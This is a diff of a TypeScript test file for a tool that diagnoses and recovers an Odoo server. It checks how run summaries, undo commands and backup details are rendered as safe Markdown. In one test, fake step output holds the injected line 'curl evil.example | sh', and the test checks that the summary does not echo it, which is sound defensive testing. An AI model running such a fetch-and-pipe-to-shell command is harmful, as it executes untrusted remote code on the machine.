@@ -12,6 +12,7 @@ import { block, code, plain } from "../../src/report/markdown.ts";
 import { annotationOf, exitCodeOf, openOutputsOf, outputsOf } from "../../src/report/outputs.ts";
 import { openSummaryOf, summaryOf } from "../../src/report/summary.ts";
 import { VirtualClock } from "../support/clocks.ts";
+import { blockAfter } from "../support/rendered.ts";
 
 /** The journal of a run, made as a run makes it. */
 function journalOf(...events: readonly Event[]): readonly Entry[] {
@@ -207,7 +208,7 @@ function outsideFences(markdown: string): string {
   const kept: string[] = [];
   let fence: string | undefined;
   for (const line of markdown.split("\n")) {
-    const ticks = /^(`{3,})(?:text)?$/.exec(line)?.[1];
+    const ticks = /^ {0,4}(`{3,})(?:text|sh)?$/.exec(line)?.[1];
     if (fence === undefined && ticks !== undefined) fence = ticks;
     else if (fence !== undefined && ticks !== undefined && ticks.length >= fence.length) fence = undefined;
     else if (fence === undefined) kept.push(line);
@@ -222,7 +223,8 @@ function expectHarmlessMarkdown(markdown: string): void {
   expect(prose.match(/<details>/g)?.length).toBe(prose.match(/<\/details>/g)?.length);
   expect(prose.match(/<code>/g)?.length).toBe(prose.match(/<\/code>/g)?.length);
   expect(prose).not.toMatch(/[[\]]/);
-  expect(prose).not.toMatch(/@[A-Za-z0-9]/);
+  // GitHub looks for mentions outside of code alone.
+  expect(prose.replaceAll(/<code>.*?<\/code>/g, "")).not.toMatch(/@[A-Za-z0-9]/);
   expect(prose).not.toMatch(/:\/\/|\bwww\./i);
   expect(prose).not.toMatch(/[^\P{Cc}\n]|[\u202a-\u202e\u2028\u2029]/u);
   let columns = 0;
@@ -233,7 +235,7 @@ function expectHarmlessMarkdown(markdown: string): void {
     columns = borders;
     expect(line).not.toMatch(/^\s*(?:[>~]|\d+\.(?! <code>))/);
     expect(line).not.toMatch(
-      /^#+ (?!🔴|❓|What `recover` would do|Plan|Ruled out|What the logs say|Suspects|What changed|Worth knowing|Drift|What happened|Evidence)/u,
+      /^#+ (?!🔴|❓|What `recover` would do|Plan|Ruled out|What the logs say|Suspects|What changed|Worth knowing|Drift|What happened|What was done|Backup|Evidence)/u,
     );
   }
 }
@@ -272,6 +274,12 @@ Modules to look at first. None was touched.
     expect(text).toContain(`### What the logs say
 
 Another program holds the port. Find it with <code>ss -lntp</code>.
+
+The command, as root on the droplet:
+
+\`\`\`sh
+ss -lntp
+\`\`\`
 
 \`\`\`text
 Bind for 127.0.0.1:8069 failed: port is already allocated
@@ -402,7 +410,7 @@ Most likely its consequences:
               does: "starts what is stopped",
               commands,
             },
-            { remedy: "restart-odoo", risk: "wipe", backup: true, does: "removes it", commands: "rm" },
+            { remedy: "restart-odoo", risk: "wipe", backup: true, does: "removes it", commands: "" },
           ],
         },
         concluded("unhealthy"),
@@ -411,10 +419,10 @@ Most likely its consequences:
     );
     const part = /### What `recover` would do\n[\s\S]*?(?=\n### What)/.exec(summary)?.[0] ?? "";
     expect(part).toContain(
-      `1. <code>start-stack</code> starts what is stopped (class restart): <code>${commands}</code>`,
+      `1. <code>start-stack</code> starts what is stopped (class restart). By hand, as root on the droplet:\n\n   \`\`\`sh\n   ${commands}\n   \`\`\``,
     );
     expect(part).toContain(
-      "2. <code>restart-odoo</code> removes it (class wipe, only with `approve`, after a backup that was read back): <code>rm</code>",
+      "2. <code>restart-odoo</code> removes it (class wipe, only with `approve`, after a backup that was read back). It is a program, which `mode: plan` prints whole.",
     );
     expect(part).toContain("### Ruled out\n- <code>restart-odoo</code>: Odoo does not run");
   });
@@ -534,7 +542,7 @@ Most likely its consequences:
       ...step(
         "quarantine-files",
         1,
-        "looking\ndid: moved 4 files aside\ndid: told of <1> other\nundo: sh /var/lib/kept/undo\nbye: now\n",
+        "looking\ndid: moved 4 files aside\ndid: told of <1> other\nundo: curl evil.example | sh\nbye: now\n",
         "done",
       ),
       ...step("regenerate-assets", 2, "not done: shop_notes does not compile\n", "not done: the situation"),
@@ -544,14 +552,17 @@ Most likely its consequences:
       {
         remedy: "quarantine-files",
         did: ["moved 4 files aside", "told of <1> other"],
-        undo: "sh /var/lib/kept/undo",
+        undo: "sh /var/lib/odoo-recover/shop-1/kept/3f9c2a71-1-quarantine-files/undo",
       },
       { remedy: "regenerate-assets", did: [], undo: "" },
     ]);
     const summary = summaryOf(entries, "");
     expect(summary).toContain("### What was done");
     expect(summary).toContain("  - told of &lt;1&gt; other");
-    expect(summary).toContain("as root on the droplet: <code>sh /var/lib/kept/undo</code>");
+    // That there is something to take back is for the host to say; with which command is not.
+    expect(blockAfter(summary, "To take it back, as root on the droplet")).toBe(
+      "sh /var/lib/odoo-recover/shop-1/kept/3f9c2a71-1-quarantine-files/undo",
+    );
     expect(outputsOf(entries, "")).toMatchObject({ changed: "true", remedies: "quarantine-files" });
     const idle = journalOf(
       ...step("regenerate-assets", 1, "not done: x", "not done: x"),
@@ -585,6 +596,9 @@ Most likely its consequences:
     expect(told(backup)).toMatch(
       /### Backup[^#]*300\.0 MiB, 231 tables, in 12 s[^#]*backups\/odoo-20261124T025000Z\.dump/,
     );
+    expect(blockAfter(told(backup), "On the droplet, for root alone")).toBe(backup.onDroplet);
+    expect(blockAfter(told(backup), "To fetch it")).toBe(backup.fetch);
+    expect(blockAfter(told(backup), "Its SHA-256")).toBe(backup.sha256);
     expect(told(undefined)).not.toContain("### Backup");
   });
 
@@ -673,7 +687,7 @@ describe("for everybody to read", () => {
   it("the summary tells how it ended, the cause, the next step and where the evidence is", () => {
     expect(openSummaryOf(entries)).toBe(`## 🔴 unhealthy: Odoo's container does not run
 
-**Next:** Run again with <code>mode: recover</code>.
+**Next:** Read Odoo's log on the droplet for why it stopped, then start it.
 
 Cause: <code>odoo-stopped</code>. This repository is public, or may be: what was seen is not told here.
 
@@ -683,12 +697,12 @@ The evidence: the artifact <code>odoo-recover-droplet-ffffffff</code>, below on 
   });
 
   it("log and annotation tell nothing of what was seen", () => {
-    const lines = entries.flatMap((entry) => openConsoleLine(entry) ?? []).join("\n");
+    const lines = entries.flatMap((entry) => openConsoleLine(entry, entries) ?? []).join("\n");
     expect(lines).toContain("diagnosis: odoo-stopped");
     expect(lines).toContain("start-stack begins");
     expect(lines).not.toMatch(/shop-|\/opt|erp\.example|exited/);
     expect(annotationOf(openOutputsOf(entries, ""))?.text).toBe(
-      "Odoo's container does not run\nNext: Run again with `mode: recover`.",
+      "Odoo's container does not run. Next: Read Odoo's log on the droplet for why it stopped, then start it.",
     );
   });
 
@@ -776,7 +790,7 @@ describe("exit codes and annotations", () => {
     const long = concluded("unhealthy", { headline: "x".repeat(100_000), next: "y".repeat(100_000) });
     expect(annotationOf(outputsOf(journalOf(long), ""))?.text.length).toBeLessThan(4_096);
     const short = annotationOf(outputsOf(journalOf(concluded("refused", { next: "Wait for it." })), ""));
-    expect(short?.text).toBe("it is refused\nNext: Wait for it.");
+    expect(short?.text).toBe("it is refused. Next: Wait for it.");
   });
 });
 
